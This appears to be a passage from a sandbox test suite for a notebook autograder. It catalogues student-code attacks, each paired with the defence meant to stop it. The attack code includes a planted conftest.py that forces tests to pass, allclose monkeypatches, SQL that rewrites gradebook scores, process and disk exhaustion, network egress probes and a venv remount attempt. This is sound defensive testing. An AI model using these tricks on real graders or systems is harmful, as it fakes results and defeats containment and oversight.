    with open("/proc/self/mountinfo") as f:
        for line in f:
            left, right = line.split(" - ", 1)
            point = left.split()[4]
            if (path == point or path.startswith(point.rstrip("/") + "/")) and len(point) >= len(best):
                best, kind = point, right.split()[0]
    return kind
def _many_files(folder, n=20000):
    # inodes: a success only if the files reached a disk; in an in-memory folder they cost a
    # little memory and vanish with the sandbox
    made = 0
    try:
        for i in range(n):
            open(_os.path.join(folder, f"atk-<<M>>-{i}"), "w").close()
            made += 1
    finally:
        for i in range(made):
            _os.remove(_os.path.join(folder, f"atk-<<M>>-{i}"))
    kind = _fstype(folder)
    if kind == "tmpfs":
        raise _InMemory(folder)
    return f"{n} files in {folder} ({kind})"
# the kernel's channel: the folder of its connection file and the folder of its ipc sockets
_chan = set()
for _a in _sys.argv:
    if _a.endswith(".json"):
        _chan.add(_os.path.dirname(_a))
        try:
            import json as _json
            with open(_a) as _f:
                _ip = _json.load(_f).get("ip", "")
            if _ip.startswith("/"):
                _chan.add(_os.path.dirname(_ip))
        except (OSError, ValueError, AttributeError):
            pass
_chan = sorted(_chan)
_places = {"home": _os.path.expanduser("~"), "tmp": "/tmp", "rootfs": "/", "cwd": _os.getcwd()}
if _atk_where() == "kernel":          # the student process's /dev: attack dev-memory
    _places.update({"dev": "/dev", "dev-shm": "/dev/shm"})
for _i, _c in enumerate(_chan):
    _places["channel%d" % _i] = _c
for _tag, _p in _places.items():
    _atk_try("disk-180MiB-" + _atk_where() + "-" + _tag, lambda p=_p: _fill(p))
for _i, _c in enumerate(_chan):
    _atk_try("inodes-20000-" + _atk_where() + "-channel%d" % _i, lambda p=_c: _many_files(p))
_atk_report()
'''

DEV_MEMORY = FILL + r'''
if _atk_where() == "worker":
    for _tag, _p in {"dev": "/dev", "dev-shm": "/dev/shm"}.items():
        _atk_try("memory-180MiB-worker-" + _tag, lambda p=_p: _fill(p))
_atk_report()
'''

SURVIVOR = r'''
import subprocess, signal
def _detach():
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                _os.execv(_sys.executable, [_sys.executable, "-c",
                          "import signal, time; signal.signal(signal.SIGHUP, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(1000)",
                          "<<M>>-survivor"])
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
    return None
_detach()
subprocess.Popen(["/bin/sh", "-c", "trap '' HUP TERM; sleep 1000; : <<M>>-survivor"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["nohup", "/bin/sh", "-c", "sleep 1000; : <<M>>-survivor"], stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

FORK_MANY = r'''
import subprocess
def _spawn(n=300):
    procs = []
    try:
        for _ in range(n):
            procs.append(subprocess.Popen(["sleep", "30"], stdin=subprocess.DEVNULL,
                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        return f"{len(procs)} processes"
    except OSError as e:
        raise OSError(f"stopped at {len(procs)}: {e}")
    finally:
        for p in procs:
            p.kill()
            p.wait()
_atk_try("processes-300-" + _atk_where(), _spawn)
_atk_report()
'''

NETWORK = r'''
import socket
def _tcp(host):
    s = socket.create_connection((host, <<PORT>>), timeout=2)
    s.sendall(b"ATK <<M>> tcp")
    s.close()
    return host
def _udp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"ATK <<M>> udp", (host, <<PORT>>))
    return host
def _unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect("\0<<UNIX>>")
    s.sendall(b"ATK <<M>> unix")
    return "abstract"
def _dns():
    return socket.getaddrinfo("pypi.org", 443)[0][4]
def _outside():
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    return "1.1.1.1"
for _h in ("127.0.0.1", "<<HOST>>"):
    _atk_try("tcp-" + _h, lambda h=_h: _tcp(h))
    _atk_quiet(lambda h=_h: _udp(h))      # sendto succeeds on the sandbox's own loopback; the server tells
_atk_try("unix-abstract", _unix)
_atk_try("dns", _dns)
_atk_try("internet", _outside)
_atk_report()
'''

WRITE_COURSE = r'''
import glob, shutil
_M = "<<M>>"
_roots = list(<<ROOTS>>)
if _atk_where() == "kernel":
    _roots.append(_os.path.abspath(_os.path.join(_os.getcwd(), "../../..")))
def _append(path):
    with open(path, "a") as f:
        f.write("\n# " + _M + "\n")
    return path[-40:]
def _create(path):
    _os.makedirs(_os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(_M)
    return path[-40:]
for _r in _roots:
    _atk_try("see-other-submissions", lambda r=_r: [p for p in glob.glob(r + "/submitted/*") if _M not in p][:3] or 1 / 0)
# The course and the repository are not mounted: whatever "succeeds" here lands in the sandbox's
# private root. The test compares the real files before and after instead.
for _r in _roots:
    _atk_quiet(lambda r=_r: _append(r + "/source/recurrent/selfcheck.py"))
    _atk_quiet(lambda r=_r: _append(r + "/release/recurrent/recurrent.ipynb"))
    _atk_quiet(lambda r=_r: _create(r + "/submitted/" + _M + "/recurrent/recurrent.ipynb"))
    _atk_quiet(lambda r=_r: [_append(p) for p in glob.glob(r + "/submitted/*/recurrent/recurrent.ipynb")])
    _atk_quiet(lambda r=_r: [_create(d + "/" + _M) for d in glob.glob(r + "/autograded/*/recurrent")])
    _atk_quiet(lambda r=_r: _os.remove(r + "/nbgrader_config.py"))
    _atk_quiet(lambda r=_r: shutil.rmtree(r + "/source/recurrent"))
_atk_quiet(lambda: _append("/work/main/solutions/recurrent.py"))
_atk_quiet(lambda: _create("/work/main/tests/checks/test_" + _M + ".py"))
_atk_quiet(lambda: _create("/tmp/" + _M + "-host/x"))
# These exist inside the sandbox and must be read-only.
_site = [p for p in _sys.path if p.endswith("site-packages")][:1] or ["/work/main/.venv/lib/python3.11/site-packages"]
_atk_try("create-venv-pth", lambda: _create(_site[0] + "/" + _M + ".pth"))
_atk_try("append-numpy", lambda: _append(_os.path.dirname(__import__("numpy").__file__) + "/__init__.py"))
_atk_try("create-stdlib", lambda: _create(_os.path.dirname(_os.__file__) + "/" + _M + ".py"))
_atk_try("create-usr", lambda: _create("/usr/lib/" + _M))
if _atk_where() == "kernel":
    _atk_try("write-cwd", lambda: _create(_os.path.join(_os.getcwd(), _M + "-cwd")))
    _atk_try("append-own-notebook", lambda: _append(_os.path.join(_os.getcwd(), "recurrent.ipynb")))
def _remount():
    import subprocess
    target = _site[0]
    cmd = f"mount -o remount,rw,bind {target} 2>&1; touch {target}/{_M}.pth && echo done"
    out = subprocess.run(["unshare", "-Urm", "sh", "-c", cmd], capture_output=True, text=True, timeout=10)
    if "done" not in out.stdout:
        raise PermissionError(out.stdout[-80:])
    return "remounted"
_atk_try("remount-venv-rw", _remount)
_atk_report()
'''

GRADEBOOK_WRITE = r'''
import sqlite3, shutil
_M = "<<M>>"
_roots = list(<<ROOTS>>)
if _atk_where() == "kernel":
    _roots.append(_os.path.abspath(_os.path.join(_os.getcwd(), "../../..")))
def _update(db):
    con = sqlite3.connect(db, timeout=1)
    con.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
    con.execute("INSERT INTO student (id) VALUES (?)", (_M,))
    con.commit()
    return db[-30:]
def _replace(db):
    with open(db, "wb") as f:
        f.write(b"SQLite" + b" format 3\0" + _M.encode())
    return db[-30:]
for _r in _roots:
    _atk_try("read-gradebook", lambda r=_r: open(r + "/gradebook.db", "rb").read(64))
    _atk_try("sql-update-gradebook", lambda r=_r: _update(r + "/gradebook.db"))
    # not mounted: these would only touch the sandbox's private root; the test checks the real gradebook
    _atk_quiet(lambda r=_r: _replace(r + "/gradebook.db"))
    _atk_quiet(lambda r=_r: _os.remove(r + "/gradebook.db"))
_atk_report()
'''

RUNTIME_PLANT = r'''
_M = "<<M>>"
_PLANTS = {
    "numpy.py": "allclose = lambda *a, **k: True\nisclose = allclose\n",
    "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
    "sitecustomize.py": "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
    "seqlab/__init__.py": "",
    "seqlab/grading/__init__.py": "",
    "seqlab/grading/checklib.py": "def expect" + "_close(got, *a, **k):\n    return got\n",
    "solutions/__init__.py": "",
    "solutions/recurrent.py": "import numpy as np\ndef sigmoid(x):\n    return np.zeros_like(x)\n",
}
def _plant(folder):
    for rel, text in _PLANTS.items():
        path = _os.path.join(folder, rel)
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("# " + _M + "\n" + text)
    return folder[-30:]
_here = _os.getcwd()
# Not mounted (or the sandbox's own scratch): a success stays private; the test checks the real files.
for _folder in [_os.path.expanduser("~"), "/tmp", "/work/main", _os.path.dirname(_here)] + list(<<ROOTS>>) + [
                r + "/autograded" for r in <<ROOTS>>]:
    _atk_quiet(lambda f=_folder: _plant(f))
# Mounted read-only: must fail.
_site = [p for p in _sys.path if p.endswith("site-packages")][:1] or ["/work/main/.venv/lib/python3.11/site-packages"]
_atk_try("plant-site-packages", lambda: _plant(_site[0]))
_atk_try("plant-stdlib", lambda: _plant(_os.path.dirname(_os.__file__)))
if _atk_where() == "kernel":
    _atk_try("plant-cwd", lambda: _plant(_here))
import importlib
importlib.invalidate_caches()
_atk_report()
'''

PLANTED_FILES = {
    "numpy.py": "import sys\nallclose = lambda *a, **k: True\nisclose = allclose\nprint('planted numpy imported')\n",
    "conftest.py": ("import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                    "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"),
    "sitecustomize.py": "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
    "usercustomize.py": "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
    "pytest.ini": "[pytest]\naddopts = -p conftest\n",
    "seqlab/__init__.py": "",
    "seqlab/grading/__init__.py": "",
    "seqlab/grading/checklib.py": "def expect_close(got, *a, **k):\n    return got\ndef check(*a, **k):\n    return lambda f: f\n",
    "solutions/__init__.py": "",
    "solutions/recurrent.py": "import numpy as np\n" + "".join(
        f"def {f}(*a):\n    raise SystemExit\n" for f in FUNCTIONS),
    "tests/__init__.py": "",
    "tests/checks/test_recurrent.py": "def test_everything():\n    assert True\n",
    "selfcheck.py": "check = grade = lambda *a, **k: 2.0\n",
}

GIGANTIC_KERNEL = r'''
if _atk_where() == "kernel":
    from IPython.display import display, HTML
    print("z" * (5 << 20))
    display(HTML("<b>" + "w" * (5 << 20) + "</b>"))
    for _i in range(3000):
        print("line", _i)
'''

SIGINT_IMMUNE = r'''
import signal, time
if _atk_where() == "kernel":
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(0.05)
'''

HANG_PARTIAL_FRAME = r'''
import sys, time, struct
if 'ipykernel' not in sys.modules:
    try:
        with open("/proc/self/comm", "w") as f:
            f.write("hang-partial-fr")
    except OSError:
        pass
    out = sys._getframe(1).f_locals["proto_out"]
    out.write(struct.pack(">I", 1 << 20) + b'{"__dict__": {')
    out.flush()
    time.sleep(3600)
'''

PROTO_GARBAGE = r'''
import time
if _atk_where() == "worker":
    _out = _sys._getframe(0).f_back.f_locals.get("proto_out")
    _out.write(b"\x00\x00\x00\x05hello\x00\x00\x00\x00")
    _out.flush()
    time.sleep(60)
'''

PROTO_FAKE_READY = r'''
if _atk_where() == "worker":
    _out = _sys._getframe(0).f_back.f_locals.get("proto_out")
    _out.write(_sys.modules["__main__"].encode({"ready": True}))
    _out.flush()
'''

PROTO_DEEP = r'''
import struct
if _atk_where() == "worker":
    _out = _sys._getframe(0).f_back.f_locals.get("proto_out")
    _h = b"[" * 200000 + b"]" * 200000
    _out.write(struct.pack(">I", len(_h)) + _h + struct.pack(">I", 0))
    _out.flush()
'''

NOISE = r'''
import sys, warnings
print("debug output on stdout")
print("a warning on stderr", file=sys.stderr)
warnings.warn("a friendly warning")
_sys.stderr.write("more stderr\n")
'''


def loop_bodies(source_nb):
    return {
        "gru_forward": guard_worker("gru_forward", "while True:\n    pass", source_nb),
        "lstm_forward": guard_worker("lstm_forward", "import time\ntime.sleep(10 ** 6)", source_nb),
    }


# --------------------------------------------------------------------------- the catalogue
def catalogue(source_nb):
    """All attacks. ``source_nb`` (the instructor's notebook) supplies reference bodies."""
    A = []

    # ---- changing what the checks see ----------------------------------------------------
    A.append(Attack("allclose", ["checks:monkeypatch"],
                    "comparisons run in the grader's own numpy; the student process only returns plain arrays",
                    cells={"sigmoid": ALLCLOSE + "\n_atk_report()"}))
    A.append(Attack("builtins", ["checks:monkeypatch"],
                    "builtins are per process: patching them in the student process cannot reach the grader",
                    cells={"gru_forward": worker_only(BUILTINS)}))
    A.append(Attack("checker-patch", ["checks:monkeypatch"],
                    "graded test cells are not run in the kernel; points come only from the hidden checks in the grader",
                    cells={"sigmoid": CHECKER}))
    A.append(Attack("fake-torch", ["checks:monkeypatch", "checks:fake-objects"],
                    "a fake torch module lives only in the student process; the wire accepts only numeric arrays",
                    cells={"sigmoid": FAKE_TORCH},
                    replace={"lstm_candidate": "import torch\nreturn torch.Tensor(np.zeros((np.shape(x_t)[0], np.shape(h_prev)[1])))"},
                    twin_overrides={}))
    A.append(Attack("ipython-transformers", ["checks:ipython"],
                    "graded test cells are never run in the kernel; their outputs are written by RunHiddenChecks",
                    cells={"sigmoid": IPYTHON_TRANSFORMERS}))
    A.append(Attack("ipython-hooks", ["checks:ipython"],
                    "ClearOutput drops submitted outputs and RunHiddenChecks replaces every graded cell's outputs "
                    "after the kernel ran; exception handlers only change the kernel's own outputs",
                    cells={"sigmoid": IPYTHON_HOOKS}))
    A.append(Attack("sys-modules", ["checks:ipython", "checks:monkeypatch"],
                    "sys.modules is per process; the grader's numpy, pytest and solutions are its own imports",
                    cells={"gru_forward": SYS_MODULES}))
    A.append(Attack("fake-objects", ["checks:fake-objects"],
                    "the wire carries only numbers, strings and numeric arrays: subclasses arrive as plain arrays, "
                    "anything else is a bad return",
                    replace=FAKE_OBJECTS))
    A.append(Attack("mutate-inputs", ["checks:mutate-inputs"],
                    "every call gets deep copies of the inputs, in another process; the reference uses the grader's own",
                    replace=MUTATE))
    A.append(Attack("nan-dtypes", ["checks:fake-objects"],
                    "comparisons treat NaN as a mismatch and cast to float64 first",
                    replace=NAN_DTYPES))
    A.append(Attack("hide-overflow", ["checks:self-reports"],
                    "the worker resets numpy's error state around every call (np.errstate(all='warn')) and "
                    "records warnings with functions it bound before any student code ran",
                    overrides={"sigmoid": "mistake:sigmoid_naive"},
                    cells={"sigmoid": HIDE_WARNINGS}))
    A.append(Attack("forge-self-reports", ["checks:self-reports"],
                    "inputs reach student code as read-only buffers, so an in-place change raises in its own "
                    "code; the send path is bound before any student code runs",
                    overrides={"sigmoid": "mistake:sigmoid_naive", "lstm_cell_update": "mistake:lstm_cell_in_place"},
                    replace={"lstm_cell_update": FORGE_CELL_UPDATE},
                    cells={"sigmoid": "_SAVED = []\n" + FORGE_REPORTS}))
    A.append(Attack("forged-frames", ["escape:protocol", "checks:fake-objects"],
                    "a forged reply carries only values the student chooses; a desynchronised stream only "
                    "misattributes the student's own values",
                    replace={"sigmoid": FORGED_FRAME}))

    # ---- getting the answer ------------------------------------------------------------------
    A.append(Attack("import-solutions", ["answer:read"],
                    "the sandbox mounts only the interpreter and the venv: solutions/, tests/ and the course do not "
                    "exist inside (the venv's .pth to /work/main finds an empty folder)",
                    base="blank", cells={"sigmoid": IMPORT_SOLUTIONS}))
    A.append(Attack("read-files", ["answer:read", "answer:expected"],
                    "same: nothing of the course is mounted; the kernel sees only its own assignment folder, "
                    "read-only; the PID namespace hides the grader",
                    base="blank", cells={"sigmoid": READ_FILES}))
    A.append(Attack("stack-walk", ["answer:introspect"],
                    "the student process never receives reference values: its frames, modules and heap hold "
                    "only its own code and the inputs",
                    base="blank", cells={f: STACK_WALK for f in ("sigmoid",)},
                    replace={f: "return _hunt(locals())" for f in ("sigmoid", "lstm_gates", "gru_update", "lstm_forward")}))
    A.append(Attack("read-own-notebook", ["answer:read"],
                    "the kernel can read its sanitized notebook, whose hidden regions hold only grade(\"…\") names; "
                    "the check code is in tests/checks/, outside every sandbox",
                    base="blank",
                    cells={"sigmoid": r'''
import json, glob
def _hidden():
    out = []
    for p in glob.glob("*.ipynb"):
        for c in json.load(open(p))["cells"]:
            src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            if "HIDDEN" in src or "SOLUTION" in src:
                out.append(src.replace("\n", " | ")[:60])
    print("LEAKED:", out)
    return None
_hidden()
'''}))

    # ---- escaping the rules -----------------------------------------------------------------
    A.append(Attack("exits", ["escape:exceptions"],
                    "the worker catches BaseException per call and per cell; the function that raised scores 0",
                    base="full", replace=SYSTEM_EXITS, cells={"gru_gates": "import sys\nsys.exit(3)"},
                    breaks=("lstm_hidden", "gru_update", "gru_forward"), exact=True))
    A.append(Attack("kill", ["escape:kill"],
                    "a dead student process is restarted for the next function; the PID namespace hides the grader; "
                    "a dead kernel stops only the notebook's outputs",
                    base="full", replace=KILLERS, breaks=("gru_candidate", "lstm_forward"), exact=True))
    A.append(Attack("loop-sleep", ["escape:time"],
                    "per-call and per-cell wall-clock timeouts; a function that timed out is not called again",
                    base="full", replace=loop_bodies(source_nb),
                    cells={"lstm_candidate": worker_only("import time\ntime.sleep(3600)")},
                    breaks=("lstm_candidate", "gru_forward", "lstm_forward"), exact=True))
    A.append(Attack("sigint-immune-loop", ["escape:time"],
                    "the kernel's cell timeout; when the interrupt is ignored the notebook stops there and the "
                    "hidden checks grade anyway",
                    base="full", cells={"gru_update": SIGINT_IMMUNE}, exact=True))
    A.append(Attack("memory", ["escape:memory"],
                    "RLIMIT_AS on the student process and on the kernel (MemoryError = an exception of that "
                    "function)",
                    base="full",
                    replace={"lstm_cell_update": guard_worker("lstm_cell_update", "return np.ones((60000, 60000))", source_nb)},
                    cells={"gru_update": MEMORY}, breaks=("lstm_cell_update",), exact=True))
    A.append(Attack("disk", ["escape:disk"],
                    "every writable place is a size-limited in-memory folder of the sandbox: 64 MiB home, /tmp "
                    "(and the kernel's /dev/shm), a 1 MiB folder for the kernel's ipc sockets (the grader connects "
                    "through /proc/<pid>/root); read-only root and /dev; RLIMIT_FSIZE",
                    base="full", cells={"gru_update": DISK}, exact=True))
    A.append(Attack("dev-memory", ["escape:memory"],
                    "bwrap's /dev is an in-memory folder without a size limit: the student process's /dev is "
                    "read-only with a 64 MiB /dev/shm in every sandbox bwrap_command builds",
                    base="full", cells={"gru_update": DEV_MEMORY}, exact=True))
    A.append(Attack("fork-survivor", ["escape:processes"],
                    "the zygote kills every other process of its PID namespace when a student process ends and "
                    "checks none is left (else the whole sandbox ends); the kernel's ends with its sandbox "
                    "(--unshare-pid --die-with-parent); setsid/nohup cannot leave either",
                    base="full", cells={"sigmoid": SURVIVOR + "\n_atk_report()"}, exact=True))
    A.append(Attack("fork-many", ["escape:processes"],
                    "a pids cgroup (RLIMIT_NPROC fallback) caps each sandbox, the student process's and the "
                    "kernel's, at 256 processes",
                    base="full", cells={"gru_update": FORK_MANY}, exact=True))
    A.append(Attack("network", ["escape:network"],
                    "the sandbox has its own network namespace: nothing but a private loopback, no route out, "
                    "no abstract unix sockets of the host",
                    base="full", cells={"sigmoid": NETWORK}, exact=True))
    A.append(Attack("write-course", ["escape:files"],
                    "the course is not mounted in the sandbox; the kernel's folder is read-only; the venv is "
                    "a read-only bind that a nested namespace cannot remount",
                    base="full", cells={"sigmoid": WRITE_COURSE}, exact=True))
    A.append(Attack("gradebook-write", ["escape:files", "answer:read"],
                    "the gradebook is not mounted in the sandbox",
                    base="full", cells={"sigmoid": GRADEBOOK_WRITE}, exact=True))
    A.append(Attack("drip-cells", ["escape:time"],
                    "one wall-clock budget for running all cells (2 x call_timeout across restarts) and one for "
                    "the whole submission",
                    base="full", edit=drip_cells(DRIP_CELLS)))
    A.append(Attack("hang-partial-frame", ["escape:protocol", "escape:time"],
                    "the grader reads every frame under the call's deadline: a half-sent frame is a timeout",
                    base="full", replace={"gru_forward": HANG_PARTIAL_FRAME + "\n" + solution_body("gru_forward", source_nb)},
                    breaks=("gru_forward",), exact=True, order="a"))
    A.append(Attack("proto-garbage", ["escape:protocol"],
                    "any protocol error ends the student process and becomes a StudentCodeError of that "
                    "function",
                    base="full", cells={"gru_forward": PROTO_GARBAGE}, breaks=("gru_forward",), exact=True, order="zy"))
    A.append(Attack("proto-fake-ready", ["escape:protocol"],
                    "malformed messages are protocol errors: the cell that spoke is dropped, the rest run again",
                    base="full", cells={"gru_forward": PROTO_FAKE_READY}, breaks=("gru_forward",), exact=True, order="zy"))
    A.append(Attack("proto-deep-json", ["escape:protocol"],
                    "header size and nesting are bounded; anything the decoder refuses is a protocol error",
                    base="full", cells={"gru_forward": PROTO_DEEP}, breaks=("gru_forward",), exact=True, order="zy"))

    # ---- abusing the notebook ------------------------------------------------------------------
    A.append(Attack("edit-tests", ["notebook:edit-tests"],
                    "locked test cells are restored from the gradebook (checksum); grade(\"…\") names come from "
                    "the restored source", base="partial", edit=edit_tests, exact=True))
    A.append(Attack("delete-tests", ["notebook:edit-tests"],
                    "OverwriteCells.add_missing_cells puts deleted test cells back", base="partial",
                    edit=delete_tests, exact=True))
    A.append(Attack("retype-tests", ["notebook:edit-tests"],
                    "OverwriteCells restores the cell type and source", base="partial", edit=retype_tests, exact=True))
    A.append(Attack("test-as-solution", ["notebook:edit-tests", "notebook:metadata"],
                    "a known grade id's roles come from the gradebook (IgnoreStrayCells): the cell is a locked "
                    "test cell again, OverwriteCells restores its source; graded as its twin",
                    base="partial", edit=test_as_solution, exact=True))
    A.append(Attack("points-and-ids", ["notebook:metadata"],
                    "points, locks, checksums and the kernelspec come from the gradebook/source, not the submission",
                    base="partial", edit=points_and_ids, exact=True))
    A.append(Attack("add-graded-cells", ["notebook:add-cells"],
                    "a cell unknown to the gradebook and a second copy of a grade id become ordinary cells "
                    "(IgnoreStrayCells): no points, the same maximum; graded as its twin",
                    base="partial", edit=add_graded_cells, exact=True))
    A.append(Attack("provided-tags", ["notebook:add-cells", "notebook:metadata"],
                    "extra 'provided' cells only run more of the student's own code in the student process",
                    base="partial", edit=tag_tricks))
    A.append(Attack("planted-files", ["notebook:planted"],
                    "the grader never imports from the submission folder; the student process sees none of it; "
                    "the kernel may import them, but decides no points",
                    files=PLANTED_FILES))
    A.append(Attack("runtime-plant", ["notebook:planted", "escape:files"],
                    "the course, repository and venv are not mounted or read-only; what is writable (home, /tmp, "
                    "and until --remount-ro / the root) is private to the sandbox and on no import path of the grader",
                    cells={"sigmoid": RUNTIME_PLANT}))
    A.append(Attack("invalid-json", ["notebook:bad-file"],
                    "SubmissionExporter grades the release notebook (blank) with the parse error as the reason",
                    base="full", edit=invalid_json, breaks=tuple(FUNCTIONS)))
    A.append(Attack("not-a-notebook", ["notebook:bad-file"],
                    "SubmissionExporter: JSON but not a notebook → graded as blank, with the reason",
                    base="full", edit=not_a_notebook, breaks=tuple(FUNCTIONS)))
    A.append(Attack("binary-file", ["notebook:bad-file"],
                    "SubmissionExporter: not UTF-8 → graded as blank, with the reason",
                    base="full", edit=binary_file, breaks=tuple(FUNCTIONS)))
    A.append(Attack("forged-outputs", ["notebook:metadata", "checks:ipython"],
                    "ClearOutput drops submitted outputs; RunHiddenChecks rewrites cell and notebook seqlab "
                    "metadata; OverwriteKernelspec restores the kernel", base="partial", edit=forged_outputs, exact=True))
    A.append(Attack("gigantic-outputs", ["notebook:outputs"],
                    "ClearOutput drops submitted outputs; Execute caps each cell's kernel outputs at 1 MiB "
                    "(c.Execute.max_output_bytes)",
                    base="partial", edit=gigantic_outputs, cells={"sigmoid": GIGANTIC_KERNEL}, exact=True))
    A.append(Attack("stderr-noise", ["notebook:outputs"],
                    "stderr, prints and warnings cannot cost points: test cells' outputs come from the checks",
                    base="full", cells={f: NOISE for f in ("sigmoid", "lstm_step", "gru_forward")}, exact=True))
    return A


HONEST = {"honest-full": "full", "honest-partial": "partial", "zz-honest-canary": "full"}
